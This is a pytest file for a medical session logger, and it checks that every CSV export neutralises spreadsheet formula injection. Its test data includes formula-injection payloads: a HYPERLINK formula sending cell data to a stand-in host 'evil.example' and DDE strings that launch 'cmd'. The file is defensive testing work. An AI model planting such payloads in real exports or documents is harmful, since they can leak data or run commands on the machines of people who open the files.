"""Spreadsheet formulas never pass into a CSV the program writes (issue 14, item 6): a text cell
starting with =, +, -, @, tab or carriage return (also after blanks) is written with a leading
apostrophe; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from ebp_logger.store import export, registry
from ebp_logger.store.csv_safe import neutralise
from ebp_logger.store.services import patients, sessions, ward
from tests.conftest import answer_checklist_safely

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u00a0@x",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_neutralise(text):
    out = neutralise(text)
    assert out.startswith("'") and out[1:] == text


def test_plain_text_and_numbers_are_untouched():
    assert neutralise("Søren") == "Søren" and neutralise("a=b") == "a=b"
    assert neutralise(-12.5) == -12.5 and neutralise(-3) == -3 and neutralise("") == ""


def _dangerous(cell: str) -> bool:
    return cell[:1] in ("\t", "\r") or cell.lstrip(" \t\r\n\u00a0")[:1] in ("=", "+", "-", "@")


@pytest.fixture
def hostile_patch(doctor, clock):
    p = patients.register_patient(
        doctor, "120571-1003", "=1+1 Hansen", comorbidity="@SUM(A1)", medication="-2+3"
    )
    sid = sessions.create_session(
        doctor,
        p.id,
        indication="other",
        indication_text='=HYPERLINK("http://x")',
        patch_type="non_targeted",
        possible_cause="+cmd|' /C calc'!A0",
    )
    answer_checklist_safely(doctor, sid)
    ward.record_score(doctor, sid, "baseline", 2, 8)
    sessions.start_procedure(doctor, sid)
    return sid


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]


def test_every_csv_writer_neutralises(hostile_patch):
    texts = [
        export.export_csv(),
        export.export_csv(pseudonymise=True),
        registry.registry_csv(),
        registry.registry_csv(pseudonymise=True),
        registry.dictionary_csv(),
    ]
    for text in texts:
        bad = [c for c in _cells(text) if _dangerous(c)]
        assert bad == []
    full = _cells(registry.registry_csv())
    assert "'=1+1 Hansen" in full and "'+cmd|' /C calc'!A0" in full


def test_no_other_csv_writer_in_the_program():
    root = Path(__file__).resolve().parents[3] / "ebp_logger"
    users = [
        p.relative_to(root).as_posix()
        for p in root.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))
    ]
    assert users == ["store/csv_safe.py"]
